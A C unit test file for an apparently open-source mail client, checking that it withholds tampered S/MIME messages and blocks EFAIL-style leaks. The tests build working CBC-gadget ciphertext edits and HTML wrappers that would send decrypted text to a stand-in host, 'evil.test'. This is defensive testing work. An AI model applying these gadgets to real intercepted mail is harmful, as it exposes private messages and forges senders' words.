/* SPDX-FileCopyrightText: wardmail contributors
 * SPDX-License-Identifier: GPL-3.0-or-later */
/* What somebody without the key can make of an encrypted S/MIME mail that he caught: other blocks (CBC gadgets), and other mails
 * around it. None of it shows his words as the sender's, or sends him what was in it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>
#include "tests/unit/read_mail.h"

#define BLOCK 16
#define HEAD "Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
#define SECRET "HOMOCYSTEINE"
#define VICTIM                                                                                                         \
  HEAD "Dear colleague,\r\n\r\nhere are the values of today, please tell nobody: potassium 4.1, creatinine 88,\r\n"    \
       "and last " SECRET " was far too high, at 31. Please call me before the weekend.\r\nKind regards, Carol\r\n"
#define CHOSEN "FIRED"

static struct fixture fixture;
static struct keyring *keyring;

/* ---- taking EnvelopedData apart, and making another ---- */

struct caught {
  GBytes *recipients; /* version and recipientInfos, as they came */
  guchar iv[BLOCK];
  guchar *blocks;
  gsize count;
};

struct element {
  const guchar *start, *content;
  gsize size; /* of the content */
};

static struct element
der_read (const guchar *at, guchar tag)
{
  struct element found = { at, at + 2, at[1] };
  assert_int_equal (at[0], tag);
  if (at[1] & 0x80) {
    found.size = 0;
    for (guint i = 0; i < (at[1] & 0x7FU); i++)
      found.size = found.size << 8 | at[2 + i];
    found.content = at + 2 + (at[1] & 0x7F);
  }
  return found;
}

static const guchar *
der_end (struct element element)
{
  return element.content + element.size;
}

static void
caught_init (struct caught *caught, GBytes *der)
{
  const guchar *at = g_bytes_get_data (der, NULL);
  struct element info = der_read (at, 0x30), type = der_read (info.content, 0x06),
                 tagged = der_read (der_end (type), 0xA0), data = der_read (tagged.content, 0x30),
                 version = der_read (data.content, 0x02), recipients = der_read (der_end (version), 0x31),
                 content = der_read (der_end (recipients), 0x30), kind = der_read (content.content, 0x06),
                 cipher = der_read (der_end (kind), 0x30), oid = der_read (cipher.content, 0x06),
                 iv = der_read (der_end (oid), 0x04), octets = der_read (der_end (cipher), 0x80);
  assert_int_equal (iv.size, BLOCK);
  caught->recipients = g_bytes_new (version.start, (gsize) (der_end (recipients) - version.start));
  memcpy (caught->iv, iv.content, BLOCK);
  caught->blocks = g_memdup2 (octets.content, octets.size);
  caught->count = octets.size / BLOCK;
}

static void
caught_clear (struct caught *caught)
{
  g_bytes_unref (caught->recipients);
  g_free (caught->blocks);
}

static void
der_wrap (GByteArray *out, guchar tag)
{
  const guchar head[] = {
    tag, 0x84, (guchar) (out->len >> 24), (guchar) (out->len >> 16), (guchar) (out->len >> 8), (guchar) out->len
  };
  g_byte_array_prepend (out, head, sizeof head);
}

static char *
der_build (const struct caught *caught, const guchar iv[BLOCK], const GByteArray *ciphertext)
{
  static const guchar data[] = { 0x06, 9, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 7, 1 },
                      cipher[] = { 0x30, 29, 0x06, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 0x2A, 0x04, BLOCK },
                      enveloped[] = { 0x06, 9, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 7, 3 };
  g_autoptr (GByteArray) out = g_byte_array_new ();
  gsize size = 0;
  const guint8 *recipients = g_bytes_get_data (caught->recipients, &size);
  g_byte_array_append (out, ciphertext->data, ciphertext->len);
  der_wrap (out, 0x80);
  g_byte_array_prepend (out, iv, BLOCK);
  g_byte_array_prepend (out, cipher, sizeof cipher);
  g_byte_array_prepend (out, data, sizeof data);
  der_wrap (out, 0x30);
  g_byte_array_prepend (out, recipients, (guint) size);
  der_wrap (out, 0x30);
  der_wrap (out, 0xA0);
  g_byte_array_prepend (out, enveloped, sizeof enveloped);
  der_wrap (out, 0x30);
  return g_base64_encode (out->data, out->len);
}

/* ---- gadgets ---- */

struct gadget {
  const struct caught *caught;
  guchar iv[BLOCK];
  GByteArray *out;
};

static void
gadget_init (struct gadget *gadget, const struct caught *caught)
{
  *gadget = (struct gadget){ .caught = caught, .out = g_byte_array_new () };
  memcpy (gadget->iv, caught->iv, BLOCK);
}

static void
add_blocks (struct gadget *gadget, gsize from, gsize to)
{
  g_byte_array_append (gadget->out, gadget->caught->blocks + from * BLOCK, (guint) ((to - from) * BLOCK));
}

/* What makes the block after it decrypt to the chosen text instead of the known one. */
static void
mask (const struct caught *caught, gsize known, const char *chosen, guchar out[BLOCK])
{
  const guchar *before = known == 0 ? caught->iv : caught->blocks + (known - 1) * BLOCK;
  assert_int_equal (strlen (chosen), BLOCK);
  for (gsize i = 0; i < BLOCK; i++)
    out[i] = before[i] ^ (guchar) VICTIM[known * BLOCK + i] ^ (guchar) chosen[i];
}

/* At the very beginning: through the IV, and nothing random comes of it. */
static void
begin_with (struct gadget *gadget, const char *chosen)
{
  mask (gadget->caught, 0, chosen, gadget->iv);
  add_blocks (gadget, 0, 1);
}

/* Anywhere else: a random block, then the chosen one. */
static void
add_chosen (struct gadget *gadget, const char *chosen)
{
  guchar masked[BLOCK];
  mask (gadget->caught, 0, chosen, masked);
  g_byte_array_append (gadget->out, masked, BLOCK);
  add_blocks (gadget, 0, 1);
}

static char *
entity_of (const char *base64)
{
  return g_strdup_printf ("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
                          "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n",
                          base64);
}

static char *
gadget_end (struct gadget *gadget)
{
  g_autofree char *base64 = der_build (gadget->caught, gadget->iv, gadget->out);
  g_byte_array_unref (gadget->out);
  return entity_of (base64);
}

static char *
mail_of (const char *from, const char *entity)
{
  return g_strdup_printf ("From: %s\r\nTo: calice@demo.test\r\nSubject: values\r\nMIME-Version: 1.0\r\n%s", from,
                          entity);
}

static struct caught victim;
static char *caught_entity; /* as it was sent */

static int
set_up (void **state)
{
  fixture_init (&fixture);
  fixture_authority (&fixture, "ca");
  keyring = fixture_keyring (&fixture, "profile");
  fixture_anchor (&fixture, keyring, "ca.crt");
  fixture_certificate (&fixture, "calice", FIXTURE_RSA, "ca");
  fixture_certificate (&fixture, "carol", FIXTURE_GOOD, "ca");
  fixture_certificate (&fixture, "mallory", FIXTURE_GOOD, "ca"); /* a certificate is no proof of good intent */
  fixture_import (&fixture, keyring, "calice.crt", "calice.key", NULL);
  g_autoptr (GBytes) text = g_bytes_new_static (VICTIM, strlen (VICTIM));
  fixture_write (&fixture, "victim", text);
  g_free (
      fixture_run (&fixture, "openssl cms -encrypt -binary -aes-256-cbc -in victim -outform DER -out cbc calice.crt"));
  g_autoptr (GBytes) der = fixture_read (&fixture, "cbc");
  caught_init (&victim, der);
  g_autofree char *base64 = fixture_run (&fixture, "openssl base64 -in cbc");
  caught_entity = entity_of (base64);
  return 0;
}

static int
tear_down (void **state)
{
  caught_clear (&victim);
  g_free (caught_entity);
  keyring_free (keyring);
  fixture_clear (&fixture);
  return 0;
}

static void
assert_withheld (const char *name, const char *entity)
{
  g_autofree char *message = mail_of ("carol@demo.test", entity);
  struct read_mail mail;
  read_mail_init (&mail, keyring, message);
  if (mail.inspection->verdict.encryption.decrypted || mail.inspection->verdict.encryption.integrity != INTEGRITY_BAD
      || !mail.inspection->root->withheld || !read_mail_warned (&mail, "withheld") || read_mail_holds (&mail, CHOSEN)
      || read_mail_holds (&mail, SECRET) || read_mail_holds (&mail, "evil.test") || *mail.shadow != '\0')
    fail_msg ("%s: not withheld: %s", name, read_mail_text (mail.view, "text_body"));
  read_mail_clear (&mail);
}

/* The catch itself, untouched and rebuilt by us: it opens, with a warning. Else the rest of this test would show nothing. */
static void
test_untouched (void **state)
{
  struct gadget gadget;
  gadget_init (&gadget, &victim);
  add_blocks (&gadget, 0, victim.count);
  g_autofree char *rebuilt = gadget_end (&gadget);
  const char *const entities[] = { caught_entity, rebuilt };
  for (gsize i = 0; i < G_N_ELEMENTS (entities); i++) {
    g_autofree char *message = mail_of ("carol@demo.test", entities[i]);
    struct read_mail mail;
    read_mail_init (&mail, keyring, message);
    assert_true (mail.inspection->verdict.encryption.decrypted);
    assert_int_equal (mail.inspection->verdict.encryption.integrity, INTEGRITY_UNKNOWN);
    assert_int_equal (mail.inspection->verdict.signature.state, SIGNATURE_NONE);
    assert_true (read_mail_warned (&mail, "no_integrity"));
    assert_non_null (strstr (read_mail_text (mail.view, "text_body"), SECRET));
    assert_non_null (strstr (mail.shadow, SECRET));
    read_mail_clear (&mail);
  }
}

/* One bit, in each block of the ciphertext and in the IV; but in the IV it is a letter of the header that changes. */
static void
test_each_block (void **state)
{
  for (gsize block = 0; block + 1 < victim.count; block++) {
    struct gadget gadget;
    gadget_init (&gadget, &victim);
    add_blocks (&gadget, 0, victim.count);
    gadget.out->data[block * BLOCK + block % BLOCK] ^= (guint8) (1U << block % 8);
    g_autofree char *entity = gadget_end (&gadget), *name = g_strdup_printf ("block %" G_GSIZE_FORMAT, block);
    assert_withheld (name, entity);
  }
}

static void
test_gadgets (void **state)
{
  static const struct {
    const char *name, *begin;
    const char *chosen[8];
    gsize from; /* then the victim's blocks from here on */
  } rows[] = {
    { "HTML around it",
      "Content-Type: te",
      { "xt/html;a=\"\r\n  ", "\"\r\n\r\n<img a=\"", "\" src='//evil.t", "est/?FIRED  ", NULL },
      1 },
    { "HTML around it, header by IV",
      "Content-Type:a;\n",
      { "\r\nContent-Type: ", "text/html\r\n\r\n   ", "<img src='http:/", "/evil.test/FIRED", NULL },
      1 },
    { "text before it", "\r\n\r\nYou are FIRED", { "and it is final.", NULL }, 0 },
    { "text alone", "You are FIRED!\r\n", { "Leave now, FIRED", NULL }, 5 },
    { "fields before it", "Subject: FIRED\r\n", { "From: b@evil.tes", "t\r\nX-Y: FIRED    ", NULL }, 0 },
    { "the beginning of another entity", "\r\nYou are FIRED ", { NULL }, 1 },
    { "bare text where a header was", "You are FIRED. \n", { NULL }, 1 },
    { "a field of his", "Subject: FIRED\r\n", { NULL }, 1 },
    { "a field in which the rest of the first one goes on", "X: y\r\nFrom: b@e:", { NULL }, 1 },
  };
  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++) {
    struct gadget gadget;
    gadget_init (&gadget, &victim);
    g_autofree char *begin = g_strndup (rows[i].begin, BLOCK);
    while (strlen (begin) < BLOCK) {
      char *longer = g_strconcat (begin, " ", NULL);
      g_free (begin);
      begin = longer;
    }
    begin_with (&gadget, begin);
    for (guint k = 0; rows[i].chosen[k] != NULL; k++) {
      g_autofree char *chosen = g_strdup_printf ("%-16.16s", rows[i].chosen[k]);
      add_chosen (&gadget, chosen);
    }
    add_blocks (&gadget, rows[i].from, victim.count);
    g_autofree char *entity = gadget_end (&gadget);
    assert_withheld (rows[i].name, entity);
  }
}

/* Gadgets in the midst, blocks in another order, twice, left out, and the end cut off. */
static void
test_rearranged (void **state)
{
  static const struct {
    const char *name;
    gsize pieces[6][2]; /* from, to */
  } rows[] = {
    { "end cut off", { { 0, 9 } } },
    { "end cut off but for the padding", { { 0, 9 }, { SIZE_MAX, SIZE_MAX } } },
    { "a block left out", { { 0, 7 }, { 8, SIZE_MAX } } },
    { "a block twice", { { 0, 8 }, { 7, SIZE_MAX } } },
    { "two blocks changed about", { { 0, 7 }, { 8, 9 }, { 7, 8 }, { 9, SIZE_MAX } } },
    { "all of it twice", { { 0, SIZE_MAX }, { 0, SIZE_MAX } } },
  };
  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++) {
    struct gadget gadget;
    gadget_init (&gadget, &victim);
    for (gsize k = 0; rows[i].pieces[k][1] != 0; k++) {
      const gsize from = rows[i].pieces[k][0] == SIZE_MAX ? victim.count - 2 : rows[i].pieces[k][0];
      add_blocks (&gadget, from, MIN (rows[i].pieces[k][1], victim.count));
    }
    g_autofree char *entity = gadget_end (&gadget);
    assert_withheld (rows[i].name, entity);
  }
  for (gsize at = 1; at + 2 < victim.count; at += 3) {
    struct gadget gadget;
    gadget_init (&gadget, &victim);
    add_blocks (&gadget, 0, at);
    add_chosen (&gadget, "You are FIRED!\r\n");
    add_blocks (&gadget, at, victim.count);
    g_autofree char *entity = gadget_end (&gadget), *name = g_strdup_printf ("text at %" G_GSIZE_FORMAT, at);
    assert_withheld (name, entity);
  }
}

/* The beginning cut off, and 16 bytes of his before the rest: nothing random comes of that, and nothing is wrong with what remains. It
 * stands in a frame that says so, and goes nowhere from there. */
static void
test_beheaded (void **state)
{
  for (guint chosen = 0; chosen < 2; chosen++) {
    const gsize from = strlen (HEAD) / BLOCK + 2;
    struct gadget gadget;
    gadget_init (&gadget, &victim);
    memcpy (gadget.iv, victim.blocks + (from - 1) * BLOCK, BLOCK);
    if (chosen)
      mask (&victim, from, "You are FIRED!\r\n", gadget.iv);
    add_blocks (&gadget, from, victim.count);
    g_autofree char *entity = gadget_end (&gadget), *message = mail_of ("carol@demo.test", entity);
    struct read_mail mail;
    read_mail_init (&mail, keyring, message);
    const char *text = read_mail_text (mail.view, "text_body");
    assert_true (g_str_has_prefix (text, "--- This was encrypted, but nothing shows that the sender wrote it ---\n"));
    assert_non_null (strstr (text, SECRET));
    assert_int_equal (strstr (text, CHOSEN) != NULL, chosen);
    assert_true (read_mail_warned (&mail, "no_integrity"));
    assert_false (read_mail_repeats (&mail, CHOSEN));
    assert_false (read_mail_repeats (&mail, SECRET));
    read_mail_clear (&mail);
  }
}

/* ---- the catch in mails of his ---- */

#define HTML_OPEN "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n"
#define HTML_CLOSE "Content-Type: text/html\r\n\r\n\">\r\n"

static void
test_wrapped (void **state)
{
  g_autofree char *lying = g_strdup (caught_entity), *octets = NULL, *bare_type = NULL;
  const char *body = strstr (caught_entity, "Content-Transfer-Encoding");
  memcpy (strstr (lying, "enveloped-data"), "signed-data   ", 14);
  octets = g_strconcat ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                        "filename=\"smime.p7m\"\r\n",
                        body, NULL);
  bare_type = g_strconcat ("Content-Type: application/x-pkcs7-mime\r\n", body, NULL);
  g_autofree char *forwarded
      = g_strconcat ("Content-Type: message/rfc822\r\n\r\nFrom: carol@demo.test\r\n", caught_entity, NULL);
  const char *const catches[] = { caught_entity, lying, octets, bare_type, forwarded };
  static const char *const kinds[] = { "mixed", "related", "alternative", "x-of-his" };
  for (gsize i = 0; i < G_N_ELEMENTS (catches); i++)
    for (gsize k = 0; k < G_N_ELEMENTS (kinds); k++) {
      g_autofree char *entity = g_strdup_printf ("Content-Type: multipart/%s; boundary=B\r\n\r\n--B\r\n" HTML_OPEN
                                                 "--B\r\n%s\r\n--B\r\n" HTML_CLOSE "--B--\r\n",
                                                 kinds[k], catches[i]),
                      *message = mail_of ("mallory@demo.test", entity);
      struct read_mail mail;
      read_mail_init (&mail, keyring, message);
      g_autoptr (GVariant) segments = g_variant_lookup_value (mail.view, "segments", G_VARIANT_TYPE ("aa{sv}"));
      g_autofree char *loads = read_mail_list (mail.view, "remote_loads");
      assert_string_equal (loads, "");
      assert_int_equal (mail.inspection->verdict.encryption.covers, COVERS_PART);
      assert_true (read_mail_warned (&mail, "partly_encrypted"));
      gboolean framed = FALSE;
      for (gsize n = 0; n < g_variant_n_children (segments); n++) {
        g_autoptr (GVariant) row = g_variant_get_child_value (segments, n);
        gboolean encrypted = FALSE, holds = strstr (read_mail_text (row, "text"), SECRET) != NULL;
        assert_true (g_variant_lookup (row, "encrypted", "b", &encrypted));
        assert_int_equal (holds && !encrypted, FALSE);
        assert_int_equal (holds && strstr (read_mail_text (row, "note"), "encrypted") == NULL, FALSE);
        assert_null (holds ? strstr (read_mail_text (row, "text"), "evil") : NULL);
        framed |= holds;
      }
      assert_true (framed);
      assert_null (strstr (read_mail_text (mail.reply, "body"), SECRET));
      assert_null (strstr (read_mail_text (mail.forward, "body"), SECRET));
      read_mail_clear (&mail);
    }
}

/* Alone under other names it is what it is. */
static void
test_other_names (void **state)
{
  static const char *const types[] = {
    "Content-Type: application/octet-stream; name=smime.p7m\r\n",
    "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"smime.P7M\"\r\n",
    "Content-Type: application/x-pkcs7-mime; smime-type=signed-data\r\n",
    "Content-Type: APPLICATION/PKCS7-MIME; smime-type=compressed-data\r\n",
    "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\n",
  };
  for (gsize i = 0; i < G_N_ELEMENTS (types); i++) {
    g_autofree char *entity = g_strconcat (types[i], strstr (caught_entity, "Content-Transfer-Encoding"), NULL),
                    *message = mail_of ("carol@demo.test", entity);
    struct read_mail mail;
    read_mail_init (&mail, keyring, message);
    assert_int_equal (mail.inspection->verdict.encryption.covers, COVERS_WHOLE);
    assert_int_equal (mail.inspection->verdict.signature.state, SIGNATURE_NONE);
    assert_true (read_mail_warned (&mail, "no_integrity"));
    read_mail_clear (&mail);
  }
}

/* His signature around somebody's encryption says nothing of the text, and the text does not come back to him. */
static void
test_signed_around (void **state)
{
  static const struct {
    const char *from, *inner; /* inner: who signed inside */
    enum signature_state state;
    gboolean repeated;
  } rows[] = {
    { "mallory@demo.test", NULL, SIGNATURE_GOOD, FALSE },
    { "carol@demo.test", NULL, SIGNATURE_MISMATCH, FALSE },
    { "mallory@demo.test", "carol", SIGNATURE_MISMATCH, FALSE },
    { "carol@demo.test", "carol", SIGNATURE_GOOD, TRUE },
  };
  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++) {
    if (rows[i].inner != NULL)
      g_free (fixture_run (&fixture, "openssl cms -sign -binary -in victim -signer %s.crt -inkey %s.key -out inner",
                           rows[i].inner, rows[i].inner));
    g_free (fixture_run (&fixture,
                         "openssl cms -encrypt -binary -aes-256-cbc -in %s -out middle calice.crt && "
                         "openssl cms -sign -in middle -signer mallory.crt -inkey mallory.key -out around",
                         rows[i].inner != NULL ? "inner" : "victim"));
    g_autoptr (GBytes) around = fixture_read (&fixture, "around");
    g_autofree char *entity = g_strndup (g_bytes_get_data (around, NULL), g_bytes_get_size (around)),
                    *message = mail_of (rows[i].from, entity);
    struct read_mail mail;
    read_mail_init (&mail, keyring, message);
    assert_int_equal (mail.inspection->verdict.signature.state, rows[i].state);
    assert_int_equal (mail.inspection->verdict.encryption.covers, COVERS_WHOLE);
    assert_non_null (strstr (read_mail_text (mail.view, "text_body"), SECRET));
    assert_int_equal (read_mail_repeats (&mail, SECRET), rows[i].repeated);
    assert_int_equal (read_mail_warned (&mail, "signed_around"), !rows[i].repeated);
    read_mail_clear (&mail);
  }
}

int
main (void)
{
  const struct CMUnitTest tests[]
      = { cmocka_unit_test (test_untouched),   cmocka_unit_test (test_each_block),   cmocka_unit_test (test_gadgets),
          cmocka_unit_test (test_rearranged),  cmocka_unit_test (test_beheaded),     cmocka_unit_test (test_wrapped),
          cmocka_unit_test (test_other_names), cmocka_unit_test (test_signed_around) };
  return cmocka_run_group_tests (tests, set_up, tear_down);
}
